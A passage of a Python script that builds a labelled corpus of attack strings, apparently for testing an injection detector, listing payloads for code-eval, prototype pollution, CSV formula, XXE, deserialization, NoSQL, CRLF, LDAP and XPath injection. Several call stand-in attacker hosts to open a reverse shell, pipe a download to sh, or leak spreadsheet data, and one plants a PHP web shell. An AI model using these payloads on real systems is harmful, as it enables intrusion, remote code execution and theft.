    ("eval-js", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-js", "');require('child_process').execSync('id');//"),
    ("eval-js", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')"),
    ("eval-js", "global.process.kill(process.pid)"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python", "eval(compile('import os;os.system(\"nc 203.0.113.3 4444 -e sh\")','x','exec'))"),
    ("eval-python", "().__class__.__bases__[0].__subclasses__()[133].__init__.__globals__['popen']('id').read()"),
    ("eval-python", "open('/etc/passwd').read()"),
    ("eval-php", "<?php system($_GET['c']); ?>"),
    ("eval-php", "<?= passthru('cat /etc/passwd') ?>"),
    ("eval-php", "${@eval($_POST['x'])}"),
    ("eval-php", "phpinfo();//"),
    ("eval-php", "assert(\"file_put_contents('s.php','<?php eval(\\$_REQUEST[1]);')\")"),
    ("eval-ruby", "#{`id`}"),
    ("eval-ruby", "Kernel.exec('/bin/sh -c id')"),
    ("prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("prototype-pollution", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("prototype-pollution", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("prototype-pollution", "constructor.prototype.discountPercent=100"),
    ("csv-formula", "=cmd|' /C mshta http://attacker.example/h.hta'!A0"),
    ("csv-formula", "=HYPERLINK(\"http://attacker.example/?leak=\"&A2&B2,\"Gauge chart\")"),
    ("csv-formula", "+WEBSERVICE(\"http://attacker.example/x?\"&C2)"),
    ("csv-formula", "-2+3+cmd|' /C powershell -nop IEX(iwr attacker.example/p)'!A1"),
    ("csv-formula", "@SUM(1+1)*cmd|' /C notepad'!'B1'"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"http://attacker.example/i?d=\",A1:D9),\"//a\")"),
    ("csv-formula", "\t=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE chart [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><chart><note>&x;</note></chart>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><r/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE invoice [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><invoice>&s;</invoice>"),
    ("xxe", "<!DOCTYPE lol [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><tune>&d;</tune>"),
    ("xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY h SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/.env\">]><text>&h;</text></svg>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("deserialization", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "a:1:{i:0;O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\u0000*\\u0000socket\";O:29:\"Monolog\\Handler\\BufferHandler\":0:{}}}"),
    ("deserialization", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7"),
    ("deserialization", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZpZCAtYSCUhZRSlC4="),
    ("deserialization", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("deserialization", "!!python/object/apply:os.system [\"id\"]"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n      read: 0\n      header: \"abc\""),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Obj\",\"autoCommit\":true}"),
    ("deserialization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
]
CODE_POOL = [
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "${jndi:ldap://attacker.example/x}",
    "<%= `whoami` %>",
    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
]
CODE_PREFIX = [
    "Engraving text: ", "Invoice note: ", "Newsletter greeting for ", "Forum signature: ",
]

# ---------------------------------------------------------------- nosqli
NOSQLI = [
    ("operator", "{\"$ne\": null}"),
    ("operator", "{\"email\": {\"$ne\": \"\"}, \"password\": {\"$ne\": \"\"}}"),
    ("operator", "{\"$gt\": \"\"}"),
    ("operator", "{\"username\":\"admin\",\"password\":{\"$regex\":\"^a\"}}"),
    ("operator", "{\"serial\": {\"$in\": [\"HW-19-0087\", {\"$gt\": \"\"}]}}"),
    ("operator", "{\"$or\": [{\"owner\": \"me\"}, {\"owner\": {\"$exists\": true}}]}"),
    ("operator", "{\"status\": {\"$nin\": [\"deleted\"]}, \"$comment\": \"all invoices\"}"),
    ("operator", "{\"rental\":\"R-17\",\"customerId\":{\"$ne\":-1}}"),
    ("operator", "{\"token\": {\"$exists\": true}}"),
    ("param-operator", "password[$ne]=x"),
    ("param-operator", "email[$regex]=.*&password[$ne]=1"),
    ("param-operator", "user[$gt]=&pass[$gt]="),
    ("param-operator", "ticket[$where]=sleep(5000)"),
    ("param-operator", "q[$regex]=^HW-.*&q[$options]=i"),
    ("where-js", "{\"$where\": \"this.role == 'admin' || sleep(5000)\"}"),
    ("where-js", "'; return true; var x='"),
    ("where-js", "0;while(true){}"),
    ("where-js", "{\"$where\": \"function(){ return this.password.match(/^a/) }\"}"),
    ("where-js", "' || this.amount > 0 || '"),
    ("where-js", "\"; db.invoices.drop(); var y=\""),
    ("aggregation", "[{\"$lookup\":{\"from\":\"staff_users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"s\"}}]"),
    ("aggregation", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregation", "[{\"$out\": \"invoices\"}]"),
    ("operator", "{\"name\": {\"$regex\": \"(a+)+$\"}}"),
    ("couch", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}"),
    ("elastic", "{\"query\":{\"script\":{\"script\":\"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"id\\\")\"}}}"),
    ("redis", "x\r\nFLUSHALL\r\n"),
]

# ---------------------------------------------------------------- crlf
CRLF = [
    ("log-forging", "C4 buzzes\n2025-03-02 09:15:00 INFO admin login succeeded user=admin ip=10.0.0.1"),
    ("log-forging", "tuned all strings\r\n[AUDIT] invoice INV-0193 marked PAID by owner"),
    ("log-forging", "R-17%0a2025-05-01T10:00:00Z level=info msg=\"refund approved\" amount=5480"),
    ("log-forging", "ticket 3318%0d%0a127.0.0.1 - - [01/Jan/2025:00:00:00 +0000] \"GET /admin HTTP/1.1\" 200"),
    ("log-forging", "walnut\\r\\nWARN user=siobhan deleted all tuning logs"),
    ("log-forging", "Okafor%E5%98%8A%E5%98%8DINFO password reset for admin"),
    ("log-forging", "x\u2028[INFO] staff role granted to ghost"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("header-injection", "/thanks%0d%0aLocation:%20https://attacker.example/phish"),
    ("header-injection", "gauge.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-injection", "R-17%0D%0AX-Forwarded-Host:%20attacker.example"),
    ("header-injection", "de%0aAccess-Control-Allow-Origin:%20*"),
    ("header-injection", "harp%%0a0aSet-Cookie:admin=1"),
    ("header-injection", "%E5%98%8D%E5%98%8ASet-Cookie:%20cart=pwned"),
    ("header-injection", "lesson\u000d\u000aRefresh: 0; url=//attacker.example/"),
    ("response-splitting", "/invoice?id=193%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Pay%20here</h1>"),
    ("response-splitting", "fr\r\n\r\nHTTP/1.1 302 Found\r\nLocation: https://attacker.example/\r\n\r\n"),
    ("response-splitting", "%0d%0a%0d%0a<html><body><form action=//attacker.example/cc>Card: <input name=n></form>"),
    ("mail-header", "customer@example.com\r\nBcc: list@attacker.example"),
    ("mail-header", "Ms. Okafor\nCc: victims@attacker.example\nSubject: Your harp invoice (urgent)"),
    ("mail-header", "quote request%0aBcc:spam@attacker.example%0a"),
    ("mail-header", "Re: commission\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay deposit</a>"),
    ("mail-header", "lena@example.com%0d%0aReply-To:%20billing@attacker.example"),
    ("mail-header", "Priya <p@example.com>\nX-Mailer: x\nTo: all-customers@workshop.test"),
    ("csv-row", "walnut finish\"\n\"=HYPERLINK(\"\"http://attacker.example/?\"\"&A1)\",\"0\""),
    ("csv-row", "34L,5480\r\nINV-9999,REFUND,-5480,approved"),
    ("csv-row", "C4;0,91;nylon\n=cmd|' /C calc'!A0;0;0"),
    ("csv-row", "rental R-17\",\"returned\"\n\"R-99\",\"written off\",\"0"),
    ("smtp-smuggling", "thanks!\r\n.\r\nMAIL FROM:<owner@workshop.test>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: new bank details\r\n"),
    ("header-injection", "lyre\rX-Frame-Options: ALLOWALL"),
]

# ---------------------------------------------------------------- ldap-xpath
LDAPX = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "admin)(&)"),
    ("ldap", "siobhan*)(|(objectClass=*)"),
    ("ldap", "*)(userPassword=*)"),
    ("ldap", "x)(|(memberOf=cn=admins,ou=groups,dc=workshop,dc=local))"),
    ("ldap", "*))%00"),
    ("ldap", "teacher)(|(description=*"),
    ("ldap", "*)(mail=*@workshop.local"),
    ("ldap", "*)(&(objectClass=user)(pwdLastSet>=0)"),
    ("ldap", "Okafor)(!(uid=nobody))(|(cn=*"),
    ("xpath", "Lena' or '1'='1"),
    ("xpath", "x' or name()='password' or 'a'='b"),
    ("xpath", "'] | //user/password | //*['"),
    ("xpath", "34L' and count(/*)=1 and '1'='1"),
    ("xpath", "' or substring(//staff[1]/pass,1,1)='a' or '"),
    ("xpath", "\") or (\"1\"=\"1"),
    ("xpath", "R-17' or string-length(//user[position()=1]/password)>6 or 'x'='y"),
    ("xpath", "'] | doc('http://attacker.example/x.xml') | a['"),
    ("xpath", "' or contains(name(/*[1]),'invoice') or '"),
    ("xpath", "x' or //customer[email='lena@example.com']/card or '1'='2"),
]


def enc_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    with open(os.path.join(here, "benign.jsonl"), encoding="utf-8") as f:
        for line in f:
            benign.add(json.loads(line)["value"])

    rows = []
    seen = set()

    def add(cat, cls, v):
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        if v in seen:
            return False
        seen.add(v)
        rows.append((cat, cls, v))
        return True

    def add_lits(cat, lits):
        for cls, v in lits:
            assert add(cat, cls, v), ("dup", v)

    def add_enc(cat, cls, pool, n):
        picks = rng.sample(pool, n)
        for v in picks:
            assert add(cat, cls + "+urlencode", enc_all(v))

    def add_prefixed(cat, cls, pool, prefixes, n):
        got = 0
        while got < n:
            v = rng.choice(prefixes) + rng.choice(pool)
            if add(cat, cls + "+prefix", v):
                got += 1

    add_lits("sqli", SQLI)
    add_enc("sqli", "encoded", SQLI_ENC_POOL, 8)
    add_lits("xss", XSS)
    add_prefixed("xss", "embedded", XSS_POOL, XSS_PREFIX, 4)
    add_lits("cmdi", CMDI)
    add_prefixed("cmdi", "separator", CMDI_POOL, CMDI_PREFIX, 6)
    add_lits("traversal", TRAV)
    add_enc("traversal", "encoded", TRAV_ENC_POOL, 50 - len(TRAV))
    add_lits("ssrf", SSRF)
    add_prefixed("ssrf", "embedded", SSRF_POOL, SSRF_PREFIX, 50 - len(SSRF))
    add_lits("code", CODE)
    add_prefixed("code", "embedded", CODE_POOL, CODE_PREFIX, 3)
    add_lits("nosqli", NOSQLI)
    add_lits("crlf", CRLF)
    add_lits("ldap-xpath", LDAPX)

    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "hait-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
